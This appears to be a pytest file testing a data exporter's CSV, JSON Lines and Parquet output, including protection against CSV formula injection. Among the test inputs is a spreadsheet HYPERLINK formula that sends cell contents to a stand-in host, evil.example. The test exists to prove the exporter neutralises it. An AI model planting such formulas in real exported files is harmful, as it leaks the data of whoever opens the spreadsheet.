"""What is written can be read again, and does nothing in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from datetime import UTC, datetime
from typing import Any

import pyarrow as pa
import pytest
from pyarrow.parquet import ParquetFile

from gateway.exporting import FORMATS

COLUMNS: dict[str, type] = {"name": str, "since": datetime}
MOMENT = datetime(2026, 1, 2, 3, 4, 5, 600, tzinfo=UTC)
BATCHES: list[list[tuple[Any, ...]]] = [
    [("Ada", MOMENT), ("Zoë", None)],
    [(None, MOMENT)],
]


def written(
    name: str, batches: Sequence[Sequence[tuple[Any, ...]]] = BATCHES
) -> list[bytes]:
    format = FORMATS[name]()
    begin = format.begin(COLUMNS)
    return [begin, *(format.rows(batch) for batch in batches), format.end()]


def cells(*texts: str) -> list[str]:
    given = [(text, None) for text in texts]
    lines = b"".join(written("csv", [given])).decode()
    return [row[0] for row in csv.reader(io.StringIO(lines, newline=""))][1:]


def test_csv_has_a_header_and_quotes_every_cell() -> None:
    assert b"".join(written("csv")).decode() == (
        '"name","since"\r\n'
        '"Ada","2026-01-02T03:04:05.000600+00:00"\r\n'
        '"Zoë",""\r\n'
        '"","2026-01-02T03:04:05.000600+00:00"\r\n'
    )


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+49 731", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"),  # noqa: RUF001
        '=HYPERLINK("http://evil.example?"&A1,"x")',
    ],
)
def test_a_cell_that_begins_like_a_formula_becomes_text(text: str) -> None:
    assert cells(text) == [f"'{text}"]


def test_other_cells_stay_as_they_are() -> None:
    harmless = ["Ada", "O'Neil", 'say "a, b"; c', "two\nlines", "a=1", " =1", "1-2"]

    assert cells(*harmless) == harmless


def test_json_lines_have_an_object_each() -> None:
    lines = b"".join(written("jsonl")).decode().splitlines()

    assert [json.loads(line) for line in lines] == [
        {"name": "Ada", "since": "2026-01-02T03:04:05.000600+00:00"},
        {"name": "Zoë", "since": None},
        {"name": None, "since": "2026-01-02T03:04:05.000600+00:00"},
    ]


def test_parquet_has_a_row_group_for_each_batch() -> None:
    parts = written("parquet")

    file = ParquetFile(pa.BufferReader(b"".join(parts)))
    assert file.num_row_groups == 2
    assert file.read().to_pylist() == [
        {"name": name, "since": since} for batch in BATCHES for name, since in batch
    ]
    assert all(parts)


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_no_rows_make_a_file_too(name: str) -> None:
    whole = b"".join(written(name, []))

    if name == "parquet":
        assert ParquetFile(pa.BufferReader(whole)).metadata.num_rows == 0
    else:
        assert whole == {"csv": b'"name","since"\r\n', "jsonl": b""}[name]
